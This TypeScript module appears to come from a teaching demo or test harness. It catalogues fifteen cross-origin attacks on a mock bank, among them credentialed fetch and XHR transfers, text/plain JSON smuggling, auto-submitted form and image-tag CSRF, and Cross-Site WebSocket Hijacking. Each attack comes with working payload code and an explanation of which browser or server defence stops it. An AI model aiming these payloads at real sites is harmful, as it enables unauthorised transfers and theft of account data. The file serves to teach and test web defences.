// Every attack, as data. `code` is the exact text the attacker's page runs and displays:
// an async function of `{ bank, probe }` (the bank's base URL for one configuration, and a
// unique id the bank's ledger records) that returns what the attacker's script ends up
// holding. `request` describes that same request in the terms of the Fetch standard, for
// the rule engine that predicts the outcome without a browser. For a WebSocket attack it
// describes the opening handshake (Fetch §7.1, "WebSocket connection"), and `endpoint` names
// the message the script sends once the socket is open.

import { TRANSFER_LITERAL, TRANSFER_PATH } from './transfer.js';

export type AttackId =
  | 'xhr-get-transfer'
  | 'xhr-get-transfer-credentials'
  | 'fetch-read-account'
  | 'fetch-read-public'
  | 'fetch-post-text'
  | 'fetch-post-form'
  | 'fetch-post-json'
  | 'fetch-put'
  | 'fetch-custom-header'
  | 'no-cors-post'
  | 'form-post'
  | 'link-get'
  | 'img-get'
  | 'websocket-read'
  | 'websocket-transfer';

/** The bank endpoint an attack aims at. */
export type Endpoint = 'transfer' | 'account' | 'public';

/** The bank's WebSocket endpoint, under the bank's base for one configuration. */
export const SOCKET_PATH = '/socket';

/**
 * The one window each attacking page opens its top-level navigations in (the form, the link):
 * a named window is found again by name (HTML "rules for choosing a navigable"), so a page
 * opens one tab, not one per navigation. Its navigations take turns: a second navigation of
 * the same window would cancel the first.
 */
export const NAVIGATION_WINDOW = 'bank-tab';

/** Which endpoint a path under the bank's base belongs to; null for any other path (the socket's included). */
export function endpointOfPath(path: string): Endpoint | null {
  if (path === '/transfer' || path.startsWith('/transfer_to/')) return 'transfer';
  if (path === '/account') return 'account';
  if (path === '/rates') return 'public';
  return null;
}

export interface AttackRequest {
  /** How the script makes the request. */
  api: 'fetch' | 'xhr' | 'img' | 'window-open' | 'form' | 'websocket';
  method: 'GET' | 'POST' | 'PUT';
  /** Fetch request mode (Fetch §2.2.5); a WebSocket handshake's is "websocket" (Fetch §7.1). */
  mode: 'cors' | 'no-cors' | 'navigate' | 'websocket';
  /** Fetch credentials mode; XHR maps withCredentials to `include`, else `same-origin`. */
  credentials: 'omit' | 'same-origin' | 'include';
  /** The request's Content-Type, if it has a body. */
  contentType: string | null;
  /** Request headers the script sets besides Content-Type. */
  extraHeaders: readonly string[];
  /** Fetch request destination, as `Sec-Fetch-Dest` reports it. */
  destination: 'empty' | 'image' | 'document';
  /** What the bank does for it; for a WebSocket, the type of the message sent on the open socket. */
  endpoint: Endpoint;
  /** The path the request goes to, under the bank's base for one configuration. */
  path: string;
}

export interface Attack {
  id: AttackId;
  title: string;
  whatGoesWrong: string;
  request: AttackRequest;
  code: string;
}

const transferBody = TRANSFER_LITERAL;
/** The transfer as a WebSocket message: the same fields, with the message's type first. */
const transferMessage = `{ type: 'transfer', ${TRANSFER_LITERAL.slice(2)}`;

/** The code of a WebSocket attack that sends `message` once the socket is open. */
function socketCode(message: string): string {
  return `async ({ bank, probe }) => {
  // No preflight, no CORS check: the handshake is a GET that carries the victim's cookies.
  const socket = new WebSocket(bank.replace(/^http/, 'ws') + '${SOCKET_PATH}?probe=' + probe);
  socket.onopen = () => socket.send(JSON.stringify(${message}));
  // The bank's first message — or the close, if the bank refused the handshake.
  const answer = await new Promise((done) => { socket.onmessage = socket.onclose = done; });
  socket.close();
  return answer;
}`;
}

export const attacks: readonly Attack[] = [
  {
    id: 'xhr-get-transfer',
    title: 'The blog’s XMLHttpRequest to /transfer_to',
    whatGoesWrong: 'It arrives at the bank, but without withCredentials no cookie rides along: the bank sees a stranger.',
    request: {
      api: 'xhr',
      method: 'GET',
      mode: 'cors',
      credentials: 'same-origin',
      contentType: null,
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: TRANSFER_PATH,
    },
    code: `async ({ bank, probe }) => {
  // The seed's request, exactly as the blog describes it.
  const xhr = new XMLHttpRequest();
  xhr.open('GET', bank + '${TRANSFER_PATH}?probe=' + probe);
  xhr.send();
  await new Promise((done) => { xhr.onloadend = done; });
  return xhr;
}`,
  },
  {
    id: 'xhr-get-transfer-credentials',
    title: 'The same XMLHttpRequest with withCredentials',
    whatGoesWrong: 'A simple GET: no preflight, so it arrives with every cookie SameSite and the third-party policy allow, and moves money.',
    request: {
      api: 'xhr',
      method: 'GET',
      mode: 'cors',
      credentials: 'include',
      contentType: null,
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: TRANSFER_PATH,
    },
    code: `async ({ bank, probe }) => {
  const xhr = new XMLHttpRequest();
  xhr.open('GET', bank + '${TRANSFER_PATH}?probe=' + probe);
  xhr.withCredentials = true;
  xhr.send();
  await new Promise((done) => { xhr.onloadend = done; });
  return xhr;
}`,
  },
  {
    id: 'fetch-read-account',
    title: 'Read the victim’s account (credentials: include)',
    whatGoesWrong: 'Steals balance and API key wherever the bank reflects the origin with credentials and the cookie rides along.',
    request: {
      api: 'fetch',
      method: 'GET',
      mode: 'cors',
      credentials: 'include',
      contentType: null,
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'account',
      path: '/account',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/account?probe=' + probe, { credentials: 'include' });
}`,
  },
  {
    id: 'fetch-read-public',
    title: 'Read public data (no credentials)',
    whatGoesWrong: 'Harmless by design: `*` exists for exactly this. Shows that CORS decides reads, not cookies.',
    request: {
      api: 'fetch',
      method: 'GET',
      mode: 'cors',
      credentials: 'same-origin',
      contentType: null,
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'public',
      path: '/rates',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/rates?probe=' + probe);
}`,
  },
  {
    id: 'fetch-post-text',
    title: 'POST JSON disguised as text/plain',
    whatGoesWrong: 'text/plain is a simple request: no preflight. The lenient bank parses the JSON anyway and moves money.',
    request: {
      api: 'fetch',
      method: 'POST',
      mode: 'cors',
      credentials: 'include',
      contentType: 'text/plain;charset=UTF-8',
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: '/transfer',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/transfer?probe=' + probe, {
    method: 'POST',
    credentials: 'include',
    body: JSON.stringify(${transferBody}), // a string body is sent as text/plain
  });
}`,
  },
  {
    id: 'fetch-post-form',
    title: 'POST a url-encoded form with fetch()',
    whatGoesWrong: 'Form encoding is a simple request: no preflight, so the write lands even where the answer can’t be read.',
    request: {
      api: 'fetch',
      method: 'POST',
      mode: 'cors',
      credentials: 'include',
      contentType: 'application/x-www-form-urlencoded;charset=UTF-8',
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: '/transfer',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/transfer?probe=' + probe, {
    method: 'POST',
    credentials: 'include',
    body: new URLSearchParams(${transferBody}),
  });
}`,
  },
  {
    id: 'fetch-post-json',
    title: 'POST application/json',
    whatGoesWrong: 'application/json is not a simple content type: the browser asks first (preflight), and only a permissive bank says yes.',
    request: {
      api: 'fetch',
      method: 'POST',
      mode: 'cors',
      credentials: 'include',
      contentType: 'application/json',
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: '/transfer',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/transfer?probe=' + probe, {
    method: 'POST',
    credentials: 'include',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(${transferBody}),
  });
}`,
  },
  {
    id: 'fetch-put',
    title: 'PUT a transfer',
    whatGoesWrong: 'PUT is never simple: the preflight must allow the method, so the default @fastify/cors methods refuse it.',
    request: {
      api: 'fetch',
      method: 'PUT',
      mode: 'cors',
      credentials: 'include',
      contentType: 'application/json',
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: '/transfer',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/transfer?probe=' + probe, {
    method: 'PUT',
    credentials: 'include',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(${transferBody}),
  });
}`,
  },
  {
    id: 'fetch-custom-header',
    title: 'Read the account with a custom header',
    whatGoesWrong: 'A custom header forces a preflight; a bank that reflects requested headers lets it through anyway.',
    request: {
      api: 'fetch',
      method: 'GET',
      mode: 'cors',
      credentials: 'include',
      contentType: null,
      extraHeaders: ['x-requested-with'],
      destination: 'empty',
      endpoint: 'account',
      path: '/account',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/account?probe=' + probe, {
    credentials: 'include',
    headers: { 'X-Requested-With': 'XMLHttpRequest' },
  });
}`,
  },
  {
    id: 'no-cors-post',
    title: 'Fire-and-forget POST (mode: no-cors)',
    whatGoesWrong: 'The script gets an opaque response and reads nothing — but the POST, with its cookies, has already landed.',
    request: {
      api: 'fetch',
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      contentType: 'application/x-www-form-urlencoded;charset=UTF-8',
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: '/transfer',
    },
    code: `async ({ bank, probe }) => {
  return fetch(bank + '/transfer?probe=' + probe, {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    body: new URLSearchParams(${transferBody}),
  });
}`,
  },
  {
    id: 'form-post',
    title: 'An auto-submitted HTML form',
    whatGoesWrong: 'Classic CSRF: a top-level POST navigation. CORS never applies to it; SameSite=Lax stops the cookie, the server’s checks stop the write.',
    request: {
      api: 'form',
      method: 'POST',
      mode: 'navigate',
      credentials: 'include',
      contentType: 'application/x-www-form-urlencoded',
      extraHeaders: [],
      destination: 'document',
      endpoint: 'transfer',
      path: '/transfer',
    },
    code: `async ({ bank, probe }) => {
  // The form opens in another tab of the victim's, so this page stays to report.
  const tab = window.open('', '${NAVIGATION_WINDOW}');
  const form = document.createElement('form');
  form.method = 'POST';
  form.action = bank + '/transfer?probe=' + probe;
  form.target = '${NAVIGATION_WINDOW}';
  for (const [name, value] of Object.entries(${transferBody})) {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = name;
    input.value = value;
    form.append(input);
  }
  document.body.append(form);
  form.submit();
  form.remove();
  return tab;
}`,
  },
  {
    id: 'link-get',
    title: 'A top-level GET navigation to /transfer_to',
    whatGoesWrong: 'A link the victim follows. Top-level GET navigations carry Lax cookies, and third-party blocking does not apply.',
    request: {
      api: 'window-open',
      method: 'GET',
      mode: 'navigate',
      credentials: 'include',
      contentType: null,
      extraHeaders: [],
      destination: 'document',
      endpoint: 'transfer',
      path: TRANSFER_PATH,
    },
    code: `async ({ bank, probe }) => {
  // As a link with target="${NAVIGATION_WINDOW}" would: a top-level navigation in another tab.
  return window.open(bank + '${TRANSFER_PATH}?probe=' + probe, '${NAVIGATION_WINDOW}');
}`,
  },
  {
    id: 'img-get',
    title: 'An <img> pointed at /transfer_to',
    whatGoesWrong: 'The oldest CSRF: an image request is a no-cors GET. The script only learns “load” or “error”.',
    request: {
      api: 'img',
      method: 'GET',
      mode: 'no-cors',
      credentials: 'include',
      contentType: null,
      extraHeaders: [],
      destination: 'image',
      endpoint: 'transfer',
      path: TRANSFER_PATH,
    },
    code: `async ({ bank, probe }) => {
  const img = new Image();
  img.src = bank + '${TRANSFER_PATH}?probe=' + probe;
  await new Promise((done) => { img.onload = img.onerror = done; });
  return img;
}`,
  },
  {
    id: 'websocket-read',
    title: 'Read the account over a WebSocket',
    whatGoesWrong:
      'Cross-Site WebSocket Hijacking: the handshake carries the cookies and no CORS check applies, so the script reads whatever the socket says — unless the server checks Origin. No CORS setting changes it.',
    request: {
      api: 'websocket',
      method: 'GET',
      mode: 'websocket',
      credentials: 'include',
      contentType: null,
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'account',
      path: SOCKET_PATH,
    },
    code: socketCode(`{ type: 'account' }`),
  },
  {
    id: 'websocket-transfer',
    title: 'Send a transfer over a WebSocket',
    whatGoesWrong:
      'A message on a hijacked socket moves money: only the server (Origin at the handshake, a token in the message) or the cookie rules stop it, never CORS.',
    request: {
      api: 'websocket',
      method: 'GET',
      mode: 'websocket',
      credentials: 'include',
      contentType: null,
      extraHeaders: [],
      destination: 'empty',
      endpoint: 'transfer',
      path: SOCKET_PATH,
    },
    code: socketCode(transferMessage),
  },
];

export function attack(id: AttackId): Attack {
  const found = attacks.find((a) => a.id === id);
  if (!found) throw new Error(`unknown attack ${id}`);
  return found;
}
